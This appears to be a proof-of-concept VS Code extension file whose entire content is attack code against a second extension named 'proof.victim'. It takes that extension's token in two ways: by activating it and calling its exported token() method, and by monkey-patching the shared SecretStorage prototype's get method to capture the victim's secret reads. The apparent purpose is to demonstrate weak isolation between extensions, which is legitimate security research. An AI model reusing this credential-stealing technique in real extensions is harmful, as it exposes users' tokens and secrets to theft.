"use strict";
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "secrets", {
    async exports(_facts, vscode) {
      const victim = vscode.extensions.getExtension("proof.victim");
      return (await victim.activate()).token();
    },
    // Extensions of one host share their classes: the next read of the victim passes by here.
    async prototype() {
      const shared = Object.getPrototypeOf(context.secrets);
      const { get } = shared;
      return new Promise((resolve) => {
        shared.get = async function taken(...words) {
          const value = await get.apply(this, words);
          if (this !== context.secrets && value) {
            shared.get = get;
            resolve(value);
          }
          return value;
        };
      });
    },
  });
